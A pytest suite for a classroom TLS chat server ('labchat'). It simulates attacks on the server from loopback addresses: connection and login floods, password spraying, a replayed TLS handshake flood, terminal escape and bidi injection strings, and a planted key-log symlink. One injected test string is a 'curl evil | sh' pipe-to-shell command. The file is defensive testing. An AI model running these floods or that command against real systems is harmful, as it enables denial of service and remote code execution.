"""The classroom attacks of issue 11: what one mischievous student tries, and what the class sees.

Each attacker gets an address of its own (127.0.0.11, .12, ...: on Linux the whole 127/8 block
is the loopback). After every attack a classmate from yet another address must connect, log
in, chat and leave within the battery's one second (`labkit.assert_room_works`). Timing
figures (how long that takes under each attack with the real defaults) come from
bench/attacks.py, not from these tests.
"""

from __future__ import annotations

import os
import select
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from helpers import wait_until
from labkit import (
    PASSWORD,
    Lab,
    assert_room_works,
    lines,
    raw_connect,
    read_until_closed,
    source,
)

from labchat import protocol as p
from labchat.auth import UserStore
from labchat.certs import issue_client_cert
from labchat.client import ChatError, Client, LoginError
from labchat.server import Limits, Server
from labchat.tls import client_context

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:  # for bench.attacks, as in test_bench_smoke.py
    sys.path.insert(0, str(ROOT))

linux_only = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="needs Linux: any 127.0.0.0/8 source address"
)
pytestmark = linux_only


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Lab:
    return Lab(tmp_path_factory.mktemp("classroom"))


def attacker(n: int) -> str:
    """The address of attacker number *n* (127.0.0.11 and up; the checker is .254)."""
    return f"127.0.0.{10 + n}"


class Background:
    """Run *work(stop)* in a few threads until stopped; every thread is joined on exit."""

    def __init__(self, work: Callable[[int, threading.Event], None], count: int = 1) -> None:
        self.stop = threading.Event()
        self.threads = [
            threading.Thread(target=work, args=(i, self.stop), daemon=True) for i in range(count)
        ]

    def __enter__(self) -> Background:
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(10.0)
        assert not any(t.is_alive() for t in self.threads), "an attacker thread hung"


def closed_by_peer(sock: socket.socket) -> bool:
    """True if the server has closed *sock* (or sent something, e.g. ERR timeout)."""
    try:
        return bool(select.select([sock], [], [], 0)[0])
    except (OSError, ValueError):
        return True


# --------------------------------------------------------------------------- 1. slots


@pytest.mark.parametrize("kind", ["tcp", "tls"])
def test_slot_flood_from_one_address_leaves_room_for_the_class(lab: Lab, kind: str) -> None:
    # One address opens more connections than the server has slots and reopens every one the
    # server closes; it never logs in. (The issue's run: 520 against max_clients 512.)
    max_clients = 48
    ctx = client_context(cafile=lab.ca)
    tried = [0]

    def connect() -> socket.socket | None:
        tried[0] += 1
        try:
            sock = raw_connect_from(attacker(1))
            if kind == "tls":
                sock = ctx.wrap_socket(sock, server_hostname="127.0.0.1")
                sock.recv(4096)  # HELLO (or ERR busy): the rest of the time it stays silent
            return sock
        except (OSError, ssl.SSLError):
            return None

    def raw_connect_from(src: str) -> socket.socket:
        return socket.create_connection(server.address, timeout=2.0, source_address=source(src))

    def flood(_: int, stop: threading.Event) -> None:
        held: list[socket.socket] = []
        attempts = 0
        while not stop.is_set() and attempts < 20000:
            for sock in [s for s in held if closed_by_peer(s)]:
                held.remove(sock)
                sock.close()
            while len(held) < max_clients + 8 and attempts < 20000 and not stop.is_set():
                attempts += 1
                sock = connect()
                if sock is not None:
                    held.append(sock)
            stop.wait(0.02)
        for sock in held:
            sock.close()

    with lab.server(max_clients=max_clients, handshake_timeout=2.0) as server:
        with Background(flood):
            # (On an unprotected server the attacker now holds every slot.)
            wait_until(lambda: tried[0] >= max_clients + 8, 10.0, "the attacker's connections")
            time.sleep(0.3)  # let it reopen what the server closed
            for _ in range(3):
                assert_room_works(lab, server)
        wait_until(lambda: server.client_count == 0, 5.0, "the attacker's slots to be freed")


# --------------------------------------------------------------------------- 2. throttle


def test_wrong_passwords_from_one_address_never_lock_out_another(lab: Lab) -> None:
    with lab.server(flood_burst=100, flood_rate=1000.0) as server:
        with lab.client(server, src=attacker(2)) as guesser:
            for name in ("alice", "bob", "carol"):
                codes = []
                for i in range(8):
                    with pytest.raises(LoginError) as info:
                        guesser.login(name, f"wrong guess {i}")
                    codes.append(info.value.code)
                # The guesser itself is slowed down on that account...
                assert codes[:5] == ["auth"] * 5 and codes[5:] == ["throttled"] * 3
            # ...and so is the right password from the guesser's address (it cannot tell).
            with pytest.raises(LoginError, match="throttled"):
                guesser.login("alice", PASSWORD)
        # The owners, each from an address of its own, get straight in.
        for i, name in enumerate(("alice", "bob", "carol")):
            with lab.login(server, name, src=f"127.0.0.{31 + i}") as owner:
                assert owner.user == name
        assert_room_works(lab, server)


def test_made_up_names_slow_their_source_for_seconds_only(lab: Lab) -> None:
    # Failures against names nobody has: past the source's budget the source is slowed
    # down, but a correct login from that same address (a classmate behind the same NAT)
    # is not refused for more than a few seconds once the spraying stops.
    budget = Limits().source_failures
    codes: list[str] = []
    codes_lock = threading.Lock()

    def spray(client: Client, k: int, n: int) -> None:
        mine = []
        for i in range(n):
            try:
                client.login(f"nobody{k}x{i}", "wrong password")
            except LoginError as exc:
                mine.append(exc.code)
        with codes_lock:
            codes.extend(mine)

    with lab.server(flood_burst=1000, flood_rate=10000.0) as server:
        sprayers = [lab.client(server, src=attacker(3)) for _ in range(4)]
        per = (budget + 60) // 4
        threads = [threading.Thread(target=spray, args=(c, k, per)) for k, c in enumerate(sprayers)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60.0)
        for c in sprayers:
            c.close()
        assert len(codes) == 4 * per
        assert codes.count("throttled") >= 4 * per - budget - 10, "the source was not slowed"
        # Another address does not notice anything.
        assert_room_works(lab, server)
        # The same address gets in after a few seconds at most.
        start = time.monotonic()
        while True:
            try:
                with lab.login(server, "alice", src=attacker(3)):
                    break
            except LoginError as exc:
                assert exc.code == "throttled"
                assert time.monotonic() - start < 5.0, "the source stayed locked out"
                time.sleep(0.2)


# --------------------------------------------------------------------------- 3. terminals

#: What one line did to classmates' terminals in the issue, and its cousins.
HOSTILE_TEXTS = [
    "\x1b[2J\x1b[H-- teacher joined",  # clear the screen, draw a fake notice
    "\x1b]0;labchat - teacher (verified)\x07",  # set the window title
    "quiz\r<teacher> Quiz time! Run this: curl evil | sh",  # bare CR: overwrite the line
    "normal\u202egnp.exe",  # bidi override: shows as "normalexe.png"
    "a\u2066b\u2069",  # bidi isolate
    "one\u2028MSG teacher forged",  # line separator: str.splitlines() splits here
    "one\x85MSG teacher forged",  # NEL
    "one\x0bMSG teacher forged",  # VT
    "one\x0cMSG teacher forged",  # FF
    "del\x7f",  # DEL
    "csi\x9b31m",  # C1 CSI
    "nul\x00",  # NUL
]


def test_control_characters_are_refused_and_nothing_is_relayed(lab: Lab) -> None:
    with lab.server(flood_burst=100, flood_rate=1000.0) as server:
        alice = lab.login(server, "alice", src=attacker(4))
        bob = lab.login(server, "bob", src="127.0.0.41")
        alice.recv_all(0.05)
        for text in HOSTILE_TEXTS:
            for line in (f"SAY {text}", f"TELL bob {text}"):
                alice.send_raw(line.encode("utf-8") + b"\n")
                reply = alice.recv(2.0)
                assert isinstance(reply, p.Err) and reply.code == "encoding", (line, reply)
        # In names too: a LOGIN with an escape in the name is refused the same way.
        with lab.client(server, src=attacker(4)) as other:
            other.send_raw(b"LOGIN ali\x1b[8mce " + PASSWORD.encode() + b"\n")
            reply = other.recv(2.0)
            assert isinstance(reply, p.Err) and reply.code == "encoding"
        bob.ping()
        assert [e for e in bob.recv_all(0.2) if not isinstance(e, p.Pong)] == []
        # TAB is fine, and so is ordinary Unicode.
        alice.say("tab\there, café, 日本語")
        assert bob.recv(2.0) == p.Msg("alice", "tab\there, café, 日本語")
        alice.close()
        bob.close()
        assert_room_works(lab, server)


tmux = shutil.which("tmux")
needs_tmux = pytest.mark.skipif(tmux is None, reason="tmux is not installed (.ci/run installs it)")


class Terminal:
    """`labchat chat` for bob in a detached tmux pane (a private tmux server), readable."""

    def __init__(self, tmp: Path, host: str, port: int, *args: str) -> None:
        assert tmux is not None
        self.socket_name = f"labchat-test-{os.getpid()}-{port}"
        chat = [sys.executable, "-m", "labchat", "chat", "--host", host, "--port", str(port)]
        chat += ["--user", "bob", "--password-stdin", *args]
        # The password goes in on stdin, then stdin stays open (the chat would quit at EOF).
        command = f"(printf '%s\\n' '{PASSWORD}'; sleep 60) | {' '.join(chat)}"
        self.tmux("new-session", "-d", "-x", "120", "-y", "40", "-s", "chat", command)

    def tmux(self, *args: str) -> str:
        assert tmux is not None
        result = subprocess.run(
            [tmux, "-L", self.socket_name, *args], capture_output=True, text=True, timeout=10
        )
        return result.stdout

    def screen(self) -> list[str]:
        return self.tmux("capture-pane", "-p", "-t", "chat").rstrip("\n").splitlines()

    def title(self) -> str:
        return self.tmux("display-message", "-p", "-t", "chat", "#{pane_title}").strip()

    def wait_for(self, text: str, timeout: float = 15.0) -> list[str]:
        found: list[list[str]] = []
        wait_until(
            lambda: found.append(self.screen()) or any(text in row for row in found[-1]),
            timeout,
            f"{text!r} on the chat screen: {found[-1] if found else ''}",
        )
        return found[-1]

    def close(self) -> None:
        self.tmux("kill-server")


@pytest.fixture
def terminals() -> Iterator[list[Terminal]]:
    made: list[Terminal] = []
    yield made
    for terminal in made:
        terminal.close()


def assert_screen_untouched(before: list[str], after: list[str], title: str) -> None:
    """Nothing drawn over: the lines from before are still there, first, in order."""
    assert after[: len(before)] == before, "the screen was cleared or overwritten"
    assert "teacher (verified)" not in title
    assert not any(row.startswith(("<teacher>", "-- teacher joined")) for row in after)


@needs_tmux
def test_escape_sequences_never_reach_another_screen(
    lab: Lab, terminals: list[Terminal], tmp_path: Path
) -> None:
    with lab.server(flood_burst=100, flood_rate=1000.0, login_timeout=30.0) as server:
        host, port = server.address
        bob = Terminal(tmp_path, host, port, "--ca", lab.ca)
        terminals.append(bob)
        before = bob.wait_for("-- type to chat")
        title = bob.title()
        with lab.login(server, "alice", src=attacker(4)) as alice:
            alice.recv_all(0.1)
            for text in HOSTILE_TEXTS:
                alice.send_raw(b"SAY " + text.encode("utf-8") + b"\n")
            alice.say("END of the attack")
            after = bob.wait_for("<alice> END of the attack")
        assert bob.title() == title
        assert_screen_untouched(before, after, bob.title())
        # Between the screen from before and alice's last line there is nothing (bob may
        # have seen alice join): the server relayed none of it.
        extra = after[len(before) :]
        assert [row for row in extra if row.strip() and "alice joined" not in row] == [
            "<alice> END of the attack"
        ]


class FakeServer:
    """A plaintext 'server' that lets anyone in and then sends raw, hostile lines: what an
    old labchat server (or a malicious one) could send a client."""

    def __init__(self, hostile: list[bytes]) -> None:
        self.hostile = hostile
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.address = self.listener.getsockname()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        self.listener.settimeout(20.0)
        try:
            conn, _ = self.listener.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(20.0)
            conn.sendall(b"HELLO labchat/1 a fake server\n")
            data = b""
            while b"\n" not in data:
                chunk = conn.recv(4096)
                if not chunk:
                    return
                data += chunk
            conn.sendall(b"OK bob\n" + b"".join(self.hostile) + b"MSG alice END\n")
            try:
                while conn.recv(4096):
                    pass
            except OSError:
                pass

    def close(self) -> None:
        self.listener.close()
        self.thread.join(25.0)


@needs_tmux
def test_chat_shows_control_characters_from_the_network_escaped(
    terminals: list[Terminal], tmp_path: Path
) -> None:
    forged = [
        b"MSG mallory \x1b[2J\x1b[H-- teacher joined\n",
        b"MSG mallory \x1b]0;labchat - teacher (verified)\x07\n",
        b"MSG mallory quiz\r<teacher> Quiz time!\n",
        b"PRIV mallory \xe2\x80\xae evil \xc2\x9b31m\n",
        b"JOIN \x1b[31mteacher\n",
        b"USERS alice \x1b[2Jbob\n",
        b"ERR auth \x1b]0;pwned\x07\n",
    ]
    fake = FakeServer(forged)
    try:
        bob = Terminal(tmp_path, *map(str, fake.address), "--plain")
        terminals.append(bob)
        after = bob.wait_for("<alice> END")
        screen = "\n".join(after)
        title = bob.title()
    finally:
        fake.close()
    assert "teacher (verified)" not in title and "pwned" not in title
    assert "-- connected" in after[0], "the screen was cleared"
    assert "<mallory> \\x1b[2J\\x1b[H-- teacher joined" in screen
    assert "\\x1b]0;labchat - teacher (verified)\\x07" in screen
    assert "<mallory> quiz\\r<teacher> Quiz time!" in screen
    assert "\\u202e" in screen and "\\x9b" in screen
    assert not any(row.startswith(("<teacher>", "-- teacher joined")) for row in after)


# --------------------------------------------------------------------------- 4. handshakes


@pytest.fixture(scope="module")
def ffdhe8192_hello() -> bytes:
    """A real TLS 1.3 ClientHello that offers only ffdhe8192, recorded from openssl s_client
    (bench/attacks.py replays the same one)."""
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed (.ci/run installs it)")
    from bench.attacks import ffdhe8192_hello as record

    hello = record()
    assert hello[0] == 0x16 and len(hello) > 1024  # a handshake record with a 1 KiB share
    return hello


def test_ffdhe_replay_flood_costs_the_class_nothing(lab: Lab, ffdhe8192_hello: bytes) -> None:
    # Eight students replay a recorded ffdhe8192 ClientHello at `labchat serve` (its
    # defaults: one CPU) as fast as it answers, each from an address of its own.
    replays = [0] * 8

    def replay(i: int, stop: threading.Event) -> None:
        while not stop.is_set() and replays[i] < 2000:
            try:
                with socket.create_connection(
                    server.address, timeout=2.0, source_address=source(attacker(20 + i))
                ) as sock:
                    sock.sendall(ffdhe8192_hello)
                    sock.recv(4096)  # the server's answer (its ServerHello, or an alert)
            except OSError:
                pass
            replays[i] += 1

    with lab.serve() as server:
        with Background(replay, count=8):
            wait_until(lambda: sum(replays) >= 16, 10.0, "the replays to start")
            for _ in range(3):
                assert_room_works(lab, server)


# --------------------------------------------------------------------------- 5. hashing


HASH_SECONDS = 0.3  # what one scrypt check takes on a busy classroom server


@pytest.fixture
def slow_hash(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every password check takes HASH_SECONDS of wall time, whatever the machine's load.

    What is under test is who gets the hash slots, not how fast this CPU is: a check that
    sleeps holds its slot exactly like a real one (bench/attacks.py measures real scrypt
    against `labchat serve`).
    """
    import labchat.auth

    real = labchat.auth.verify_password

    def slow(record: dict, password: str) -> bool:
        time.sleep(HASH_SECONDS)
        return real(record, password)

    monkeypatch.setattr(labchat.auth, "verify_password", slow)


def test_failed_login_flood_does_not_starve_another_address(lab: Lab, slow_hash: None) -> None:
    # One address sends failed logins over 16 connections as fast as it can; each costs a
    # full check (made-up names are checked against a dummy record, at the same cost). On a
    # first-come-first-served hasher with 4 slots a classmate waits behind the whole queue:
    # 16 / 4 * 0.3 s, plus its own check.
    attempts = [0] * 16
    connected = [False] * 16

    def hammer(i: int, stop: threading.Event) -> None:
        try:
            client = lab.client(server, src=attacker(5))
        except (OSError, ssl.SSLError, ChatError):
            return
        connected[i] = True
        with client:
            while not stop.is_set() and attempts[i] < 200:
                try:
                    client.login(f"nobody{i}x{attempts[i]}", "wrong password")
                except LoginError:
                    pass
                except (OSError, TimeoutError):
                    return
                attempts[i] += 1

    with lab.server(flood_burst=1000, flood_rate=10000.0, login_timeout=60.0) as server:
        with Background(hammer, count=16):
            # Every connection has a login waiting for the hasher, and some are done.
            wait_until(lambda: all(connected) and sum(attempts) >= 4, 30.0, "the flood")
            for _ in range(3):
                assert_room_works(lab, server)


# --------------------------------------------------------------------------- 6. adduser


def test_concurrent_adduser_and_deluser_lose_nothing(tmp_path: Path) -> None:
    users = tmp_path / "users.json"
    store = UserStore(users)
    for i in range(5):
        store.add(f"old{i}", PASSWORD)

    def labchat(*args: str) -> subprocess.Popen:
        return subprocess.Popen(
            [sys.executable, "-m", "labchat", *args, "--users", str(users)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
        )

    # Ten processes at once: five add an account, five remove one.
    procs = [labchat("adduser", f"new{i}", "--password-stdin") for i in range(5)]
    procs += [labchat("deluser", f"old{i}") for i in range(5)]
    for proc in procs:
        out, err = proc.communicate(PASSWORD + "\n" if "adduser" in proc.args else "", 60)
        assert proc.returncode == 0, err
    assert UserStore(users).names() == [f"new{i}" for i in range(5)]


# --------------------------------------------------------------------------- 7. key log


@pytest.mark.skipif(os.name == "nt", reason="POSIX symlinks and owners")
def test_keylog_refuses_a_planted_symlink(lab: Lab, tmp_path: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("someone else's file\n")
    os.chmod(target, 0o644)
    link = tmp_path / "keys.log"
    link.symlink_to(target)
    with pytest.raises(PermissionError, match="symbolic link"):
        Server(port=0, certs_dir=lab.certs.directory, users=lab.store, keylog=link)
    assert target.read_text() == "someone else's file\n"
    assert (target.stat().st_mode & 0o777) == 0o644
    dangling = tmp_path / "dangling.log"
    dangling.symlink_to(tmp_path / "created-by-us.log")
    with pytest.raises(PermissionError, match="symbolic link"):
        Server(port=0, certs_dir=lab.certs.directory, users=lab.store, keylog=dangling)
    assert not (tmp_path / "created-by-us.log").exists()


# --------------------------------------------------------------------------- 8. ghosts


def test_logging_in_again_takes_over_a_ghost_session(lab: Lab) -> None:
    with lab.server(outbox_bytes=16 * 1024, flood_burst=1000, flood_rate=10000.0) as server:
        bob = lab.login(server, "bob", src="127.0.0.51")
        # alice's laptop logs in, then its Wi-Fi drops: it never reads again.
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.bind((attacker(8), 0))
        raw.settimeout(5.0)
        raw.connect(server.address)
        ghost = client_context(cafile=lab.ca).wrap_socket(raw, server_hostname="127.0.0.1")
        ghost.sendall(f"LOGIN alice {PASSWORD}\n".encode())
        wait_until(lambda: "alice" in server.room.names(), 2.0, "alice to log in")
        bob.recv_all(0.05)
        # The room goes on talking until the ghost's session holds unsent lines.
        said: list[str] = []
        session = server.room.member("alice")
        assert session is not None
        while len(session.outbox) < 2000:  # type: ignore[attr-defined]
            assert len(said) < 2000, "the ghost's outbox never filled"
            said.append(f"{len(said):04d} " + "x" * 200)
            bob.say(said[-1])
            assert isinstance(bob.recv(2.0), p.Msg)
        # alice is back, from another address: her login takes the session over at once.
        start = time.monotonic()
        alice = lab.client(server, src="127.0.0.52")
        alice.login("alice", PASSWORD)
        assert time.monotonic() - start < 1.0
        assert server.room.names() == ["alice", "bob"]
        # The ghost connection gets ERR replaced, then is closed.
        data, _ = read_until_closed(ghost, 5.0)
        ghost.close()
        old_lines = lines(data)
        assert old_lines[-1].startswith("ERR replaced ")
        # Nothing the room said is lost: the old connection got the first lines, the new one
        # every line from where the old one's confirmed writes end (a line or two may come
        # on both).
        old = [row[len("MSG bob ") :] for row in old_lines if row.startswith("MSG bob ")]
        new = [e.text for e in alice.recv_all(0.3) if isinstance(e, p.Msg)]
        assert new, "no unsent lines moved to the new connection"
        assert old == said[: len(old)]
        assert new == said[len(said) - len(new) :]
        assert len(old) + len(new) >= len(said), "lines were lost between the connections"
        # The room saw neither a LEAVE nor a JOIN: alice never left.
        assert [e for e in bob.recv_all(0.2) if isinstance(e, p.Join | p.Leave)] == []
        alice.close()
        bob.close()
        assert_room_works(lab, server)


# --------------------------------------------------------------------------- 9. smaller


def test_trickling_client_is_closed_within_the_handshake_timeout(lab: Lab) -> None:
    timeout = 0.5
    with lab.server(handshake_timeout=timeout) as server:
        sock = raw_connect(server, src=attacker(9))
        start = time.monotonic()
        time.sleep(0.9 * timeout)
        closed_at = None
        hello = b"\x16\x03\x01\x02\x00" + b"\x01" * 55  # the start of a ClientHello, slowly
        for byte in hello:
            try:
                sock.send(bytes([byte]))
            except OSError:
                closed_at = time.monotonic() - start
                break
            if closed_by_peer(sock):
                closed_at = time.monotonic() - start
                break
            time.sleep(0.05)
        sock.close()
        assert closed_at is not None and closed_at < timeout + 0.3, closed_at
        assert_room_works(lab, server)


def test_mutual_tls_ties_the_certificate_to_the_account(lab: Lab, tmp_path: Path) -> None:
    certs = tmp_path / "certs"
    shutil.copytree(lab.certs.directory, certs)
    cert, key = issue_client_cert(certs, "alice")
    with Server(
        port=0,
        certs_dir=certs,
        users=lab.store,
        client_ca=certs / "ca.pem",
        require_cert_user=True,
    ) as server:
        host, port = server.address
        with Client(host, port, cafile=lab.ca, certfile=cert, keyfile=key) as mallory:
            with pytest.raises(LoginError) as info:
                mallory.login("bob", PASSWORD)  # alice's certificate, bob's password
            assert info.value.code == "auth"
            assert "certificate" in info.value.text
            mallory.login("alice", PASSWORD)
            assert mallory.user == "alice"
    # Without the option a client certificate only proves it came from the lab CA.
    with Server(port=0, certs_dir=certs, users=lab.store, client_ca=certs / "ca.pem") as server:
        with Client(*server.address, cafile=lab.ca, certfile=cert, keyfile=key) as client:
            client.login("bob", PASSWORD)


@pytest.mark.parametrize("name", ["nl\n", "tab\tname", "esc\x1b[2J", "nul\x00"])
def test_certificate_and_file_names_refuse_control_characters(tmp_path: Path, name: str) -> None:
    from labchat.certs import CA, create_lab_certs

    paths = create_lab_certs(tmp_path / "certs")
    with pytest.raises(ValueError, match="control character|invalid client name"):
        issue_client_cert(paths.directory, name)
    assert sorted(f.name for f in paths.directory.iterdir() if "client" in f.name) == []
    with pytest.raises(ValueError):
        CA().issue_cert(f"host{name}.example")
    with pytest.raises(ValueError):
        CA(organization=f"org{name}")


def test_plaintext_hint_always_arrives(lab: Lab) -> None:
    # `(printf 'WHO\r\n'; sleep 1) | nc host 5050`: the client keeps its end open and reads
    # later. The server must end with a FIN, not a RST: tools like nc give up on a reset
    # before they print what arrived.
    hint = "ERR syntax this port speaks TLS; use labchat chat or openssl s_client"
    with lab.server() as server:
        for i in range(40):
            sock = raw_connect(server, src=attacker(10))
            sock.sendall(b"WHO\r\nSAY anybody there?\r\n")
            time.sleep(0.02)
            sock.settimeout(3.0)
            data, reset = b"", False
            try:
                while chunk := sock.recv(4096):
                    data += chunk
            except ConnectionResetError:
                reset = True
            time.sleep(0.05)
            # A reset after the FIN shows as a pending socket error (EPIPE on Linux).
            reset = reset or sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0
            sock.close()
            assert lines(data) == [hint], f"run {i}: {data!r}"
            assert not reset, f"run {i}: the server reset the connection"
        assert_room_works(lab, server)


# --------------------------------------------------------------------------- the CLI


def labchat_cli(*args: str, cwd: Path, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "labchat", *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=cwd,
    )


def assert_one_error_line(result: subprocess.CompletedProcess, *words: str) -> None:
    assert result.returncode == 2, result
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("labchat: error: "), result.stderr
    assert "Traceback" not in result.stderr
    for word in words:
        assert word in lines[0], lines[0]


def test_cli_refuses_control_characters_in_certificate_names(tmp_path: Path) -> None:
    assert labchat_cli("certs", "--dir", "certs", cwd=tmp_path).returncode == 0
    result = labchat_cli("certs", "--dir", "certs", "--client", "nl\n", cwd=tmp_path)
    assert_one_error_line(result, "control character")
    assert not [f for f in (tmp_path / "certs").iterdir() if f.name.startswith("client-")]


@pytest.mark.skipif(os.name == "nt", reason="POSIX symlinks")
def test_cli_serve_refuses_a_keylog_symlink(lab: Lab, tmp_path: Path) -> None:
    (tmp_path / "victim").write_text("not yours\n")
    (tmp_path / "keys.log").symlink_to(tmp_path / "victim")
    result = labchat_cli(
        "serve", "--port", "0", "--certs", str(lab.certs.directory),
        "--users", str(lab.store.path), "--keylog", "keys.log",
        cwd=tmp_path,
    )  # fmt: skip
    assert_one_error_line(result, "keys.log", "symbolic link")
    assert (tmp_path / "victim").read_text() == "not yours\n"


def test_cli_serve_require_cert_user_needs_client_ca(lab: Lab, tmp_path: Path) -> None:
    result = labchat_cli(
        "serve", "--port", "0", "--certs", str(lab.certs.directory),
        "--users", str(lab.store.path), "--require-cert-user",
        cwd=tmp_path,
    )  # fmt: skip
    assert_one_error_line(result, "--require-cert-user", "--client-ca")


def test_cli_adduser_operator_is_shown_in_who(lab: Lab, tmp_path: Path) -> None:
    users = tmp_path / "users.json"
    result = labchat_cli(
        "adduser", "teacher", "--operator", "--users", str(users), "--password-stdin",
        cwd=tmp_path, stdin=PASSWORD + "\n",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "operator" in result.stdout
    store = UserStore(users, **{"n": 2**10, "r": 8, "p": 1})
    store.add("alice", PASSWORD)
    assert store.is_operator("teacher") and not store.is_operator("alice")
    with lab.server(users=store) as server:
        with lab.login(server, "teacher") as teacher, lab.login(server, "alice") as alice:
            assert alice.who() == ["alice", "@teacher"]
            teacher.kick("alice", "demo")
